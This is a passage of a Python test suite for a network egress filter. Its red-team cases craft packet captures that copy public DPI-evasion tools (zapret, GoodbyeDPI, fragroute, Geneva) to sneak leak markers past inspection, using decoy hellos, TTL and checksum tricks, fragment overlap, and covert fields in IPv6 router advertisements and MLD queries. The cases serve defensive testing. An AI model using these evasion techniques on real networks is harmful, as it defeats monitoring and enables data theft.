            for k, msg in enumerate((b"MSRASV5.20", b"MSRAS-0-DESKTOP-4F2K9QJ")):
                marks.append(rt18_ppp_frame(t, 0xc021, bytes([12, 2 + k]) + struct.pack("!H", 8 + len(msg))
                                            + b"\x2d\x4e\x11\x93" + msg))
        else:
            marks.append(rt18_ppp_frame(t, 0xc021, bytes([10, 7]) + struct.pack("!H", 8) + b"\x2d\x4e\x11\x93"))
    cap = carrier_flow(n, 55405, 55405, False, send)
    return cap, {"pass": marks, "replay_args": ["--inside-mac", mac_pair(S1, E2M)[0]]}


@case
def case_rt18_dns_ixfr_ok(n):
    """(Red team round 18) Must-allow: an inside secondary (BIND with `masters { 192.0.2.53
    key xfr; }`, or `dig +tcp ixfr=2026010101 customs.example -y ...`) asks the agency's
    DNS server for an incremental zone transfer over TCP. RFC 1995 3: the IXFR query
    MUST carry the client's SOA in its authority section; BIND signs it with a TSIG
    (HMAC-SHA256). The server answers with the SOA alone (the zone has not changed,
    RFC 1995 4). dns_tcp_axfr_ok's AXFR passes; IXFR is a standard query (opcode 0)
    whose question type (251) no standard-query rule names, so its SOA record counts as
    an authority record a stub never sends (dns_stdq_type_ok)."""
    cap = Capture()
    t = ETcp(cap, S1, 55406, RESOLVER, 53, isn=55406, rtt_us=2000)
    t.handshake()
    zone = "customs.example"
    soa = (rt17_name("ns1." + zone) + rt17_name("hostmaster." + zone)
           + struct.pack("!IIIII", 2026010101, 7200, 3600, 1209600, 300))
    q = (struct.pack("!HHHHHH", 0x4e21, 0, 1, 0, 1, 1) + rt17_name(zone) + struct.pack("!HH", 251, 1)
         + rt8b_rr(zone, 6, 1, 300, soa) + rt17_tsig("xfr", 0x4e21, 32, n + "mac"))
    t.data(True, struct.pack("!H", len(q)) + q)
    a = (struct.pack("!HHHHHH", 0x4e21, 0x8400, 1, 1, 0, 1) + rt17_name(zone) + struct.pack("!HH", 251, 1)
         + rt8b_rr(zone, 6, 1, 300, soa) + rt17_tsig("xfr", 0x4e21, 32, n + "amac"))
    t.data(False, struct.pack("!H", len(a)) + a)
    t.close()
    return cap, {"pass": [q, a]}


class Rt18WrapTcp(TsTcp):
    """TsTcp whose sequence numbers wrap past 2^32 (both sides stamp every segment)."""

    def raw(self, from_client, flags, payload=b"", seq=None, ack=None, **kw):
        if seq is None:
            seq = self.cseq if from_client else self.sseq
        if ack is None:
            ack = self.sseq if from_client else self.cseq
        return super().raw(from_client, flags, payload, seq=seq & 0xffffffff, ack=ack & 0xffffffff, **kw)


def rt18_wrap_download(n, cport, plain_at=None):
    """An e2m session whose client ISN puts its ClientHello across 2^32 (the record
    header before, the name after) and whose server's sequence wraps 9000 bytes into a
    60 KB download of four 15000-byte records in 1448-byte segments, the client's bare
    ACKs (timestamps alone) every second segment with a window that moves. plain_at: a
    record index whose header is replaced by plaintext HTTP (the marker)."""
    cap = Capture()
    t = Rt18WrapTcp(cap, S1, cport, E2M, 443, isn=(1 << 32) - 120, rtt_us=20000)
    t.sseq = (1 << 32) - 2000
    t.handshake()
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req"))
    recs = []
    for k in range(4):
        if k == plain_at:
            body = (b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 14900\r\n\r\n" + leak(n))
            recs.append(body + prand(n + "pl", 15005 - len(body)))
        else:
            recs.append(tls_appdata(n + "dl%d" % k, 15000))
    stream = b"".join(recs)
    wins = [64240, 30000, 4000, 50000, 12000]
    for k, off in enumerate(range(0, len(stream), 1448)):
        t.raw(False, "PA" if off + 1448 >= len(stream) else "A", stream[off:off + 1448],
              options=t.opts(False), gap=300)
        t.sseq += len(stream[off:off + 1448])
        if k % 2 == 1 or off + 1448 >= len(stream):
            t.raw(True, "A", options=t.opts(True), window=wins[k % len(wins)], gap=300)
    t.data(True, tls_appdata(n + "req2", 90))
    t.data(False, marked_record(passm(n) + b"srv", n + "resp2"))
    t.close()
    return cap


@case
def case_rt18_fast_wrap_ok(n):
    """(Red team round 18) Must-allow: a download whose sequence numbers wrap: the client's
    ClientHello straddles 2^32 (its record header before, the server name after), and the
    server's sequence wraps 9000 bytes into 60 KB of 15000-byte records in 1448-byte
    segments; both sides stamp every segment; the client acknowledges every second
    segment with a bare ACK (NOP NOP timestamps) whose window moves between 4000 and
    64240 (scaled by 2^7). The steady state's fast path (judge_steady_fast) takes these
    body segments and ACKs; its compares must hold across the wrap. Any random ISN lands
    there for one session in every few thousand, and every download past 4 GiB wraps."""
    return rt18_wrap_download(n, 55407), {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt18_fast_wrap_plain(n):
    """(Red team round 18) rt18_fast_wrap_ok, where the server's third record (after the
    wrap) is plaintext HTTP (the marker) in place of a record: the fast path passes body
    segments only while they lie inside a record's body, so the segment that carries the
    plaintext's start is read, across the wrap, and the flow is dropped from it. Must
    not pass."""
    return rt18_wrap_download(n, 55408, plain_at=2), {"leak": [leak(n)]}


@case
def case_rt18_nd_ra_fill(n):
    """(Red team round 18) During an allowed IPv6 e2m session the strict host sends, before
    each record, a router advertisement (router lifetime 0: it routes nothing) whose
    options are the fields parse_link_nd bounds by length alone: a DNS search list (31)
    of 248 bytes that are no names in wire form, a captive portal (37) of 254 bytes
    that are no URI, and an RDNSS (25) of 24 "servers" (384 bytes): 880 bytes a
    frame, the marker in each, to every host of the outside link. A router's DNSSL
    holds domain names (RFC 8106 5.2), its captive portal one printable https URI (RFC
    8910 2.3), its RDNSS a few resolvers; a host (the strict zone holds hosts) sends RAs
    only as a router. The bound of 1024 bytes an RA keeps the frame, not what is in it.
    Must not pass."""
    def send(t, rec, i):
        s = mac_pair(t.c, t.s)[0]
        ll = "fe80::95:b3ff:fe18:e938"
        blob = leak(n) + prand("%s-r%d" % (n, i), 900)
        opts = (bytes([1, 1]) + bytes.fromhex(s.replace(":", ""))
                + bytes([31, 31, 0, 0]) + struct.pack("!I", 600) + blob[:240]
                + bytes([37, 32]) + leak(n) + blob[240:240 + 254 - len(leak(n))]
                + bytes([25, 49, 0, 0]) + struct.pack("!I", 600) + blob[494:494 + 384])
        ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 0, 0, 0) + opts
        assert len(ra) <= 1024
        from scapy.layers.inet6 import in6_chksum
        c = in6_chksum(58, IPv6(src=ll, dst="ff02::1", nh=58) / Raw(ra), ra)
        ra = ra[:2] + struct.pack("!H", c) + ra[4:]
        t.cap.emit(Ether(src=s, dst="33:33:00:00:00:01") / IPv6(src=ll, dst="ff02::1", hlim=255, nh=58) / Raw(ra), 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 55409, 55409, True, send), {
        "leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S6, E2M6)[0]]}


@case
def case_rt18_mld_query_src(n):
    """(Red team round 18) rt18_mld_src as a querier's message: the strict host sends, before
    each record, an MLDv2 multicast-address-and-source-specific query (130) from its
    link-local address with 80 sources (1280 bytes: the marker). parse_link_mld takes a
    query of 28 bytes and as many sources as its count says, whatever they hold; a
    querier asks about the sources a report named (RFC 3810 7.1.2), a handful. Must not
    pass."""
    def send(t, rec, i):
        s = mac_pair(t.c, t.s)[0]
        blob = (leak(n) + prand("%s-q%d" % (n, i), 1300))[:80 * 16]
        q = (struct.pack("!BBHHH", 130, 0, 0, 1000, 0) + bytes.fromhex("ff3e0000000000000000000080000001")
             + struct.pack("!BBH", 2, 125, 80) + blob)
        t.cap.emit(rt18_mld_frame(s, "fe80::95:b3ff:fe18:e938", q), 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 55410, 55410, True, send), {
        "leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S6, E2M6)[0]]}


@case
def case_rt18_mld_ssm_ok(n):
    """(Red team round 18) Must-allow (a twin for a fix of rt18_mld_src): an IPTV set-top
    box's MLDv2 report after a channel change (Linux, Router Alert first): three
    source-specific channels (ff3e::/32 groups) of 1, 4 and 8 sources, the old channel
    left (BLOCK_OLD_SOURCES, 2 sources), and two any-source groups (mDNS, SSDP). Then an
    e2m session. A bound on sources must leave what such receivers send."""
    from scapy.layers.inet6 import ICMPv6MLDMultAddrRec, ICMPv6MLReport2, RouterAlert

    def frames(mac):
        ll = "fe80::95:b3ff:fe18:e938"
        src = lambda k: ["2001:db8:700:%x::%x" % (k, j + 1) for j in range({0: 1, 1: 4, 2: 8, 3: 2}[k])]
        recs = [ICMPv6MLDMultAddrRec(rtype=1, dst="ff3e::8000:%x" % (k + 1), sources=src(k)) for k in range(3)]
        recs += [ICMPv6MLDMultAddrRec(rtype=6, dst="ff3e::8000:9", sources=src(3)),
                 ICMPv6MLDMultAddrRec(rtype=2, dst="ff02::fb"), ICMPv6MLDMultAddrRec(rtype=2, dst="ff02::c")]
        p = (IPv6(src=ll, dst="ff02::16", hlim=1) / IPv6ExtHdrHopByHop(options=[RouterAlert()])
             / ICMPv6MLReport2(records=recs))
        yield Ether(src=mac, dst="33:33:00:00:00:16") / p, bytes(p)[48:]
    return link_ok_flow(n, 55411, True, frames)


@case
def case_rt18_ppp_eaptls_ok(n):
    """(Red team round 18) Must-allow (a twin for a fix of rt18_ppp_eap): a PPPoE client
    authenticating with EAP-TLS (pppd with eap-tls, Windows' "smart card or other
    certificate") during an allowed e2m session: its EAP-Response/Identity
    (user@customs.example), then an EAP-Response of type 13 with the L and M flags, the
    TLS message length and 1200 bytes of its Certificate flight as TLS handshake records,
    then the last fragment. EAP-TLS fragments run to the link's MTU (RFC 5216 2.1.5);
    each frame must reach the outside link whole."""
    marks = []

    def send(t, rec, i):
        t.raw(True, "PA", rec)
        if i == 0:
            ident = b"user@customs.example"
            marks.append(rt18_ppp_frame(t, 0xc227, bytes([2, 1]) + struct.pack("!H", 5 + len(ident)) + b"\x01" + ident))
        else:
            tls = record(22, passm(n) + prand(n + "cert%d" % i, 1200 if i == 1 else 300), 0x0303)
            flags = b"\xc0" + struct.pack("!I", 1560) if i == 1 else b"\x00"
            eap = bytes([2, 1 + i]) + struct.pack("!H", 5 + len(flags) + len(tls)) + b"\x0d" + flags + tls
            marks.append(rt18_ppp_frame(t, 0xc227, eap))
    cap = carrier_flow(n, 55412, 55412, False, send)
    return cap, {"pass": marks, "replay_args": ["--inside-mac", mac_pair(S1, E2M)[0]]}


# ------------------------------------------------ red team rt-z: the public DPI-evasion tools
# zapret/nfqws, GoodbyeDPI, fragroute and Geneva, each technique as the tool's documentation
# describes it, against the strict zone (a name or protocol other than e2m through the e2m
# endpoint) and the office (a social name through its class block). Client ports 55600-55699.

RTZ_IANA = "www.iana.org"    # zapret's shipped fake ClientHello names www.iana.org (517 bytes)


def rtz_fake_hello(n, sni, size=517):
    """zapret's fake ClientHello (tls_clienthello_iana_org.bin's shape): a whole hello for
    sni, padded to `size` bytes, its own random and key share."""
    h0 = hello(n + "fake", sni=sni)
    return hello(n + "fake", sni=sni, extra=[ext(21, b"\x00" * (size - len(h0) - 4))])


def rtz_send(t, payload, seq, fool=(), flags="PA", ack=None, v6ext=(), tsopt=None, gap=None):
    """One client segment at seq, fooled as nfqws's --dpi-desync-fooling does: ttl (a TTL
    or hop limit that expires on the way), badsum, md5sig (TCP option 19), badseq (seq
    -10000, ack -66000), datanoack (no ACK flag), ipopt (a bogus IPv4 option); v6ext are
    IPv6 extension headers before TCP (hopbyhop, hopbyhop2, destopt)."""
    ipkw, tcpkw = {}, {}
    opts = list(tsopt or [])
    for f in fool:
        if f == "ttl":
            ipkw["hlim" if ":" in t.c else "ttl"] = 3
        elif f == "badsum":
            tcpkw["chksum"] = 0xBAD1
        elif f == "md5sig":
            opts += [(19, prand("%d-md5" % seq, 16)), ("NOP", None), ("NOP", None)]
        elif f == "badseq":
            seq -= 10000
            ack = (t.sseq - 66000) & 0xFFFFFFFF
        elif f == "datanoack":
            flags = flags.replace("A", "")
        elif f == "ipopt":
            ipkw["options"] = [IPOption(b"\x88\x0c" + b"\x00" * 6)]  # stream id, length past the header
    seq &= 0xFFFFFFFF
    if v6ext:
        ip = IPv6(src=t.c, dst=t.s, **ipkw)
        for h in v6ext:
            ip = ip / h
        pkt = ip / TCP(sport=t.cport, dport=t.sport, flags=flags, seq=seq,
                       ack=(t.sseq if ack is None else ack) if "A" in flags else 0, window=64240,
                       options=opts, **tcpkw) / Raw(payload)
        t.cap.emit(l2(t.c, t.s, t.vlans) / pkt, t.rtt // 2 if gap is None else gap)
        return
    t.raw(True, flags, payload, seq=seq, ack=ack, ipkw=ipkw or None, tcpkw=tcpkw or None,
          options=opts or None, gap=gap)


def rtz_split(data, cuts):
    b = [0] + list(cuts) + [len(data)]
    return [(b[i], data[b[i]:b[i + 1]]) for i in range(len(b) - 1)]


def rtz_faked(t, real, decoy, pos, fool, disorder, v6ext=()):
    """nfqws fakedsplit (fake1 real1 fake1 fake2 real2 fake2) or fakeddisorder (fake2 real2
    fake2 fake1 real1 fake1): the fakes are the decoy's bytes at the same offsets, fooled."""
    base = t.cseq
    parts = rtz_split(real, [pos])
    fparts = rtz_split(decoy[:len(real)], [pos])
    for i in ((1, 0) if disorder else (0, 1)):
        off, p = parts[i]
        rtz_send(t, fparts[i][1], base + off, fool, v6ext=v6ext)
        rtz_send(t, p, base + off)
        rtz_send(t, fparts[i][1], base + off, fool, v6ext=v6ext)
    t.cseq = base + len(real)


def rtz_pos(h, name):
    """zapret's split markers in a ClientHello: sniext (the server_name extension's data),
    host (the name), midsld (the middle of the second-level label)."""
    host = h.find(name.encode())
    labels = name.split(".")
    sld = labels[-2]
    sld_at = host + name.rfind("." + sld + ".") + 1 if len(labels) > 2 else host
    return {"sniext": host - 5, "host": host, "midsld": sld_at + len(sld) // 2}


def rtz_tls(n, c, cport, s, send, marker):
    cap = Capture()
    tls_flow(cap, c, cport, s, cport, n, send, marker)
    return cap


# --- zapret / nfqws, strict zone: the fakes say e2m, the server reads exfil

@case
def case_rtz_zapret_fake_split2_ttl_evil(n):
    """nfqws --dpi-desync=fake,split2 --dpi-desync-split-pos=sniext+1 --dpi-desync-ttl=3
    --dpi-desync-repeats=2 --dpi-desync-fake-tls=<a 517-byte e2m hello>: two fakes naming
    e2m.customs.example (they expire on the way), then the exfil hello in two segments cut
    inside the server_name extension. Must drop."""
    h = hello(n, sni=EVIL, alpn_extra=[leak(n)])
    fake = rtz_fake_hello(n, E2M_NAME)
    pos = rtz_pos(h, EVIL)["sniext"] + 1

    def send(t):
        for _ in range(2):
            rtz_send(t, fake, t.cseq, ("ttl",))
        cut_at(t, h, [pos])
    return rtz_tls(n, S1, 55600, E2M, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_zapret_fakeddisorder_md5_evil(n):
    """nfqws --dpi-desync=fake,disorder2 (fakeddisorder) --dpi-desync-split-pos=midsld
    --dpi-desync-fooling=md5sig: fake2 real2 fake2 fake1 real1 fake1, the fakes the e2m
    hello's bytes with a TCP-MD5 option (a server without the key drops them). Must drop."""
    h = hello(n, sni=EVIL, sid=None)
    d = hello(n, sni=E2M_NAME)
    pos = rtz_pos(h, EVIL)["midsld"]
    send = lambda t: rtz_faked(t, h, d, pos, ("md5sig",), True)  # noqa: E731
    return rtz_tls(n, S1, 55601, E2M, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_zapret_fake_badseq_evil(n):
    """nfqws --dpi-desync=fake --dpi-desync-fooling=badseq: the e2m fake 10000 bytes behind
    the client's sequence number with an ACK 66000 behind the server's (the server drops
    it), then the exfil hello whole. Must drop."""
    h = hello(n, sni=EVIL, alpn_extra=[leak(n)])
    fake = rtz_fake_hello(n, E2M_NAME)

    def send(t):
        rtz_send(t, fake, t.cseq, ("badseq",))
        t.send(True, h)
    return rtz_tls(n, S1, 55602, E2M, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_zapret_fake_datanoack_evil(n):
    """nfqws --dpi-desync=fake,disorder2 --dpi-desync-split-pos=1 --dpi-desync-fooling=
    datanoack: the e2m fake without the ACK flag (discarded by a synchronized receiver),
    then the exfil hello from byte 1, then byte 0. Must drop."""
    h = hello(n, sni=EVIL, alpn_extra=[leak(n)])
    fake = rtz_fake_hello(n, E2M_NAME)

    def send(t):
        rtz_send(t, fake, t.cseq, ("datanoack",))
        cut_at(t, h, [1], order=[1, 0])
    return rtz_tls(n, S1, 55603, E2M, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_zapret_fake_ts_evil(n):
    """nfqws --dpi-desync=fake --dpi-desync-fooling=ts: both sides use timestamps; the e2m
    fake carries a TSval 600000 behind (PAWS drops it, RFC 7323 5), then the exfil hello
    at the same sequence number. Must drop."""
    cap = Capture()
    t = TsTcp(cap, S1, 55604, E2M, 443, isn=55604, rtt_us=20000)
    t.handshake()
    h = hello(n, sni=EVIL, alpn_extra=[leak(n)])
    d = hello(n, sni=E2M_NAME)
    rtz_send(t, d, t.cseq, tsopt=t.opts(True, tsval=(t.ts[True] - 600000) & 0xFFFFFFFF))
    t.raw(True, "PA", h, options=t.opts(True))
    t.cseq += len(h)
    t.raw(False, "A", options=t.opts(False))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(leak(n), n + "req"))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtz_zapret_seqovl_ssh_e2m(n):
    """nfqws --dpi-desync=split2 --dpi-desync-split-seqovl=<len> with the e2m hello as the
    seqovl pattern: the first segment starts len bytes before the client's first sequence
    number (the server trims what lies below rcv_nxt) and holds the e2m hello, then the
    start of an SSH banner; the rest of the banner (LEAK in its comment) and the key
    exchange follow. The server reads SSH only. Must drop."""
    cap = Capture()
    t = ETcp(cap, S1, 55605, E2M, 443, isn=55605, rtt_us=20000)
    t.handshake()
    d = hello(n)
    banner = b"SSH-2.0-OpenSSH_9.2p1 " + leak(n) + b"\r\n"
    base = t.cseq
    rtz_send(t, d + banner[:2], base - len(d))
    rtz_send(t, banner[2:], base + 2)
    t.cseq = base + len(banner)
    t.ack(False)
    t.data(False, b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n")
    t.data(True, struct.pack("!IBB", 300, 8, 20) + prand(n + "kex", 298) + leak(n))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtz_zapret_hopbyhop2_v6_evil(n):
    """IPv6: nfqws --dpi-desync=fake,split2 --dpi-desync-fooling=hopbyhop2: the e2m fake
    with two Hop-by-Hop headers (every stack drops it: RFC 8200 4.1), then the exfil hello
    cut at sniext+1. Must drop."""
    h = hello(n, sni=EVIL, alpn_extra=[leak(n)])
    fake = rtz_fake_hello(n, E2M_NAME)
    pos = rtz_pos(h, EVIL)["sniext"] + 1

    def send(t):
        rtz_send(t, fake, t.cseq, v6ext=(IPv6ExtHdrHopByHop(), IPv6ExtHdrHopByHop()))
        cut_at(t, h, [pos])
    return rtz_tls(n, S6, 55606, E2M6, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_zapret_syndata_evil(n):
    """nfqws --dpi-desync=syndata,split2: the SYN carries the e2m hello (no Fast Open
    option: the server ignores it), then after the handshake the exfil hello cut at
    host+1. Must drop."""
    cap = Capture()
    t = ETcp(cap, S1, 55607, E2M, 443, isn=55607, rtt_us=20000)
    t.raw(True, "S", hello(n), options=Tcp.SYN_OPTS)
    t.cseq += 1
    t.raw(False, "SA", options=Tcp.SYN_OPTS)
    t.sseq += 1
    t.raw(True, "A")
    h = hello(n, sni=EVIL, alpn_extra=[leak(n)])
    cut_at(t, h, [rtz_pos(h, EVIL)["host"] + 1])
    t.ack(False)
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(leak(n), n + "req"))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtz_zapret_split2_sniext_e2m_ok(n):
    """Must allow: nfqws multisplit of a genuine e2m hello at 1, sniext+1 and midsld, with
    --dup=1 (the first piece sent twice): segmentation and a duplicate an honest path can
    produce."""
    h = hello(n)
    p = rtz_pos(h, E2M_NAME)

    def send(t):
        base = t.cseq
        cuts = [1, p["sniext"] + 1, p["midsld"]]
        pieces = rtz_split(h, cuts)
        rtz_send(t, pieces[0][1], base)
        rtz_send(t, pieces[0][1], base)
        for off, b in pieces[1:]:
            rtz_send(t, b, base + off)
        t.cseq = base + len(h)
    return rtz_tls(n, S1, 55616, E2M, send, passm(n)), {"pass": [passm(n)]}


@case
def case_rtz_zapret_dup_badsum_e2m_ok(n):
    """Must allow: nfqws --dup=2 --dup-fooling=badsum on a genuine e2m hello: the hello,
    two copies with a wrong checksum, and a retransmission (the receiver drops the bad
    copies; the bytes are the same)."""
    h = hello(n)

    def send(t):
        base = t.cseq
        rtz_send(t, h, base)
        rtz_send(t, h, base, ("badsum",))
        rtz_send(t, h, base, ("badsum",))
        rtz_send(t, h, base, gap=200000)
        t.cseq = base + len(h)
    return rtz_tls(n, S1, 55617, E2M, send, passm(n)), {"pass": [passm(n)]}


@case
def case_rtz_zapret_wssize_e2m_ok(n):
    """Must allow: nfqws --wssize=1:6 rewrites the server's SYN-ACK window to 1 with scale
    6: the client sends its genuine e2m hello's first byte (the SYN-ACK's window is not
    scaled), then 64-byte segments, each waiting for the server's ACK (window 1 << 6)."""
    cap = Capture()
    t = ETcp(cap, S1, 55618, E2M, 443, isn=55618, rtt_us=20000)
    t.raw(True, "S", options=Tcp.SYN_OPTS)
    t.cseq += 1
    t.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 6)], window=1)
    t.sseq += 1
    t.raw(True, "A")
    h = hello(n)
    # the SYN-ACK's window is not scaled (RFC 7323 2.2): 1 byte first; the server's
    # later ACKs say 1 << 6 = 64 bytes
    for a, b in [(0, 1)] + [(i, i + 64) for i in range(1, len(h), 64)]:
        t.raw(True, "PA", h[a:b])
        t.cseq += len(h[a:b])
        t.raw(False, "A", window=1)
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rtz_zapret_ipfrag2_v6_e2m_ok(n):
    """Must allow: nfqws --dpi-desync=ipfrag2 --dpi-desync-ipfrag-pos-tcp=24 on a genuine e2m
    hello over IPv6: two fragments, the first with the TCP header and 4 bytes (legal
    fragment sizes)."""
    h = hello(n, alpn_extra=[passm(n)])

    def send(t):
        t.raw(True, "PA", h, frag=[24])
        t.cseq += len(h)
    return rtz_tls(n, S6, 55619, E2M6, send, passm(n)), {"pass": [passm(n)]}


# --- GoodbyeDPI, strict zone

@case
def case_rtz_gdpi_wrongchksum_sni_rev_evil(n):
    """GoodbyeDPI --wrong-chksum --fake-from-hex=<e2m hello> -e 2 --frag-by-sni
    --reverse-frag: the e2m fake with a wrong checksum, then the exfil hello cut just
    before the SNI value, the second piece first. Must drop."""
    h = hello(n, sni=EVIL, sid=None)
    fake = hello(n + "hex", sni=E2M_NAME)

    def send(t):
        rtz_send(t, fake, t.cseq, ("badsum",))
        cut_at(t, h, [rtz_pos(h, EVIL)["host"]], order=[1, 0])
    return rtz_tls(n, S1, 55608, E2M, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_gdpi_autottl_fake_openvpn_e2m(n):
    """GoodbyeDPI --auto-ttl --fake-from-hex=<e2m hello>: an e2m fake with a TTL too short
    for the server, then OpenVPN over TCP (tls-auth hard reset) at the same sequence number,
    LEAK in its control channel. Must drop."""
    cap = Capture()
    t = ETcp(cap, S1, 55609, E2M, 443, isn=55609, rtt_us=20000)
    t.handshake()
    msgs = ovpn_msgs(n)
    rtz_send(t, hello(n), t.cseq, ("ttl",))
    for i, (c, p) in enumerate(msgs):
        if i == 3:
            p = p + leak(n)
        t.data(c, struct.pack("!H", len(p)) + p)
    t.close()
    return cap, {"leak": [leak(n)]}


# --- fragroute, strict zone

@case
def case_rtz_fragroute_ipfrag_new_evil(n):
    """fragroute `ip_frag 24 new`: the exfil hello's datagram in 24-byte fragments, each
    after the first preceded by an overlapping fragment of the same range holding the e2m
    hello's bytes (a receiver that favours new data reads exfil). Must drop."""
    cap = Capture()
    h = hello(n, sni=EVIL, alpn_extra=[leak(n)])
    d = hello(n, sni=E2M_NAME)

    def send(t):
        base = t.cseq

        def l4(data):
            return bytes(IP(bytes(IP(src=S1, dst=E2M) / TCP(sport=55610, dport=443, flags="PA", seq=base,
                                                             ack=t.sseq, window=64240) / Raw(data))).payload)
        real, junk = l4(h), l4(d)
        for off in range(0, len(real), 24):
            more = off + 24 < len(real)
            for src_bytes in ((junk, real) if off else (real,)):
                f = IP(src=S1, dst=E2M, id=0x5610, proto=6, flags="MF" if more else 0,
                       frag=off // 8) / Raw(src_bytes[off:off + 24])
                t.cap.emit(l2(S1, E2M) / f, 300)
        t.cseq = base + len(h)
    return rtz_tls(n, S1, 55610, E2M, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_fragroute_chaff_null_evil(n):
    """fragroute `tcp_seg 8` then `tcp_chaff null`: the exfil hello in 8-byte segments, each
    preceded by a chaff segment at the same sequence number with no TCP flags holding the
    e2m hello's bytes (receivers discard it). Must drop."""
    h = hello(n, sni=EVIL, alpn_extra=[leak(n)])
    d = hello(n, sni=E2M_NAME)

    def send(t):
        base = t.cseq
        for off in range(0, len(h), 8):
            rtz_send(t, d[off:off + 8], base + off, flags="", gap=200)
            rtz_send(t, h[off:off + 8], base + off, gap=200)
        t.cseq = base + len(h)
    return rtz_tls(n, S1, 55611, E2M, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_fragroute_ipchaff_opt_evil(n):
    """fragroute `tcp_seg 24` then `ip_chaff opt`: each 24-byte segment of the exfil hello
    preceded by a chaff copy with a bogus IP option holding the e2m hello's bytes. Must
    drop."""
    h = hello(n, sni=EVIL, alpn_extra=[leak(n)])
    d = hello(n, sni=E2M_NAME)

    def send(t):
        base = t.cseq
        for off in range(0, len(h), 24):
            rtz_send(t, d[off:off + 24], base + off, ("ipopt",), gap=200)
            rtz_send(t, h[off:off + 24], base + off, gap=200)
        t.cseq = base + len(h)
    return rtz_tls(n, S1, 55612, E2M, send, leak(n)), {"leak": [leak(n)]}


# --- Geneva, strict zone

@case
def case_rtz_geneva_dataofs_badsum_evil(n):
    """Geneva (Kazakhstan) [TCP:flags:PA]-duplicate(tamper{TCP:dataofs:replace:10}
    (tamper{TCP:chksum:corrupt},),)-|, the tampered copy's load replaced by the e2m hello:
    data offset 10 (20 bytes of 'options' out of the load) and a wrong checksum; the untampered
    copy is the exfil hello. Must drop."""
    h = hello(n, sni=EVIL, alpn_extra=[leak(n)])

    def send(t):
        base = t.cseq
        rtz_send(t, hello(n), base, ("badsum",))
        # re-emit the last frame with dataofs 10
        t.cap.pkts[-1][TCP].dataofs = 10
        t.send(True, h)
    return rtz_tls(n, S1, 55613, E2M, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_geneva_dup_fin_ssh_e2m(n):
    """Geneva duplicate(tamper{TCP:flags:replace:F}(tamper{TCP:load:replace:<e2m hello>},),):
    a FIN-only copy (no ACK: a synchronized receiver discards it) holding the e2m hello,
    then the real packet: an SSH banner (LEAK in its comment). Must drop."""
    cap = Capture()
    t = ETcp(cap, S1, 55614, E2M, 443, isn=55614, rtt_us=20000)
    t.handshake()
    rtz_send(t, hello(n), t.cseq, flags="F")
    t.data(True, b"SSH-2.0-OpenSSH_9.2p1 " + leak(n) + b"\r\n")
    t.data(False, b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n")
    t.data(True, struct.pack("!IBB", 300, 8, 20) + prand(n + "kex", 298) + leak(n))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtz_geneva_seg_rev_http_e2m(n):
    """Geneva [TCP:flags:PA]-fragment{tcp:8:False}-|: a plaintext HTTP POST to e2m's TLS
    port cut at byte 8, the second segment first. Nothing of it may pass."""
    cap = Capture()
    t = ETcp(cap, S1, 55615, E2M, 443, isn=55615, rtt_us=20000)
    t.handshake()
    req = b"POST /upload HTTP/1.1\r\nHost: " + E2M_NAME.encode() + b"\r\nContent-Length: 20\r\n\r\n" + leak(n)
    cut_at(t, req, [8], order=[1, 0])
    t.ack(False)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    t.data(True, leak(n))
    t.close()
    return cap, {"leak": [leak(n)]}


# --- zapret / nfqws, office: the fakes name www.iana.org or ex.a.org, the server reads m.vk.com

@case
def case_rtz_zapret_fake_split2_vk(n):
    """Office: nfqws --dpi-desync=fake,split2 --dpi-desync-split-pos=sniext+1
    --dpi-desync-ttl=3 --dpi-desync-repeats=3 (the shipped 517-byte www.iana.org fake),
    then the m.vk.com hello in two segments. Must drop."""
    h = hello(n, sni=VK, alpn_extra=[leak(n)])
    fake = rtz_fake_hello(n, RTZ_IANA)
    pos = rtz_pos(h, VK)["sniext"] + 1

    def send(t):
        for _ in range(3):
            rtz_send(t, fake, t.cseq, ("ttl",))
        cut_at(t, h, [pos])
    return rtz_tls(n, O1, 55620, SOC, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_zapret_fakeddisorder_badseq_vk(n):
    """Office: nfqws --dpi-desync=fake,disorder2 (fakeddisorder) --dpi-desync-split-pos=midsld
    --dpi-desync-fooling=badseq: fake2 real2 fake2 fake1 real1 fake1, the fakes ex.a.org's
    bytes 10000 below the sequence number. Must drop."""
    h = hello(n, sni=VK, sid=None)
    d = hello(n, sni=RT_DECOY)
    send = lambda t: rtz_faked(t, h, d, rtz_pos(h, VK)["midsld"], ("badseq",), True)  # noqa: E731
